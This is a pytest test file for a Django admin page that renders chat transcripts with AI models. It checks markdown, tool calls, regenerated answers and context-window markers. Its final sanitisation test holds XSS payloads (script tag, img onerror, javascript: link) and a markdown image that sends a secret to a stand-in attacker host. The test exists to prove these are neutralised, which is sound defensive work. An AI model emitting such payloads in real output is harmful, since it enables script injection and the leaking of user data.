from __future__ import annotations

import pytest

from chat.models import Message
from tests.admin.factories import add, make_conversation


@pytest.fixture
def client(client, root):
    client.force_login(root)
    return client


def page(client, conversation, query=""):
    r = client.get(f"/admin/chat/conversation/{conversation.pk}/change/{query}")
    assert r.status_code == 200
    return r.content.decode()


@pytest.mark.django_db
def test_it_renders_answers_as_markdown(client, alice):
    conversation = make_conversation(alice)
    html = page(client, conversation)
    assert "<strong>Warm</strong> clothes." in html


@pytest.mark.django_db
def test_it_shows_what_people_typed_as_text(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "**not bold** <b>nor this</b>")
    html = page(client, conversation)
    assert "**not bold** &lt;b&gt;nor this&lt;/b&gt;" in html


@pytest.mark.django_db
def test_it_shows_each_answers_numbers(client, alice):
    conversation = make_conversation(alice)
    add(
        conversation,
        "assistant",
        "Partial",
        model="anthropic:claude-sonnet-4-5",
        status=Message.Status.FAILED,
        finish_reason="error",
        error="The provider is overloaded.",
        error_detail="HTTP 529 from upstream",
    )
    html = page(client, conversation)
    assert "openai:gpt-4o" in html
    assert "first token after 250 ms" in html
    assert "42.5 tokens/s" in html
    assert "12 tokens in, 30 out" in html
    assert "complete (end)" in html
    assert "failed (error)" in html
    assert "The provider is overloaded." in html
    assert "HTTP 529 from upstream" in html


@pytest.mark.django_db
def test_it_shows_tool_calls_and_results(client, alice):
    conversation = make_conversation(alice)
    call = {"id": "call_7", "name": "weather", "arguments": {"city": "Oslo"}}
    add(conversation, "assistant", "", tool_calls=[call])
    add(conversation, "tool", "-3 °C <script>", tool_call_id="call_7")
    html = page(client, conversation)
    assert "tool call <code>weather</code> (call_7)" in html
    assert "&quot;city&quot;: &quot;Oslo&quot;" in html
    assert "result of call_7" in html
    assert "-3 °C &lt;script&gt;" in html


@pytest.mark.django_db
def test_it_shows_the_versions_of_a_regenerated_answer(client, alice):
    conversation = make_conversation(alice)
    answer = conversation.messages.get(role="assistant")
    add(
        conversation,
        "assistant",
        "An earlier attempt",
        seq=answer.seq,
        active=False,
        reply_to=answer.reply_to,
    )
    html = page(client, conversation)
    assert "1 other version of #2" in html
    assert "An earlier attempt" in html
    assert html.index("Warm") < html.index("An earlier attempt")


@pytest.mark.django_db
def test_it_shows_where_the_window_begins(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "Second question")
    add(conversation, "assistant", "Second answer", context_from_seq=3)
    conversation.summary = "They talked about packing."
    conversation.summary_through_seq = 2
    conversation.save()
    html = page(client, conversation)
    divider = html.index("earlier messages are not sent to the model")
    assert html.index("What should I pack?") < divider < html.index("Second question")
    assert "a summary of messages up to #2 is sent instead" in html
    assert "They talked about packing." in html
    assert "context from #3" in html


@pytest.mark.django_db
def test_it_shows_no_divider_when_everything_was_sent(client, alice):
    conversation = make_conversation(alice)
    add(conversation, "user", "Second question")
    add(conversation, "assistant", "Second answer", context_from_seq=1)
    assert "earlier messages are not sent" not in page(client, conversation)


@pytest.mark.django_db
def test_it_shows_the_newest_messages_of_a_huge_conversation(client, alice, settings):
    from chat.admin import ConversationAdmin

    conversation = make_conversation(alice)
    for n in range(8):
        add(conversation, "user", f"message number {n}")
    ConversationAdmin.transcript_limit, limit = 5, ConversationAdmin.transcript_limit
    try:
        html = page(client, conversation)
        assert "message number 7" in html
        assert "message number 3" in html
        assert "message number 2" not in html
        assert "5 older messages not shown" in html
        assert "message number 2" in page(client, conversation, "?transcript=all")
    finally:
        ConversationAdmin.transcript_limit = limit


@pytest.mark.django_db
def test_it_never_lets_model_output_run_scripts_or_load_images(client, alice):
    conversation = make_conversation(alice)
    add(
        conversation,
        "assistant",
        "<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1)) "
        "![leak](https://attacker.example/collect?q=secret)",
    )
    html = page(client, conversation)
    body = html[html.index('id="transcript"') :]
    assert "<script>alert" not in body
    assert "<img" not in body
    assert "javascript:" not in body.replace("[click](javascript:alert(1))", "")
    assert '<a href="https://attacker.example/collect?q=secret" rel="noopener noreferrer">' in body
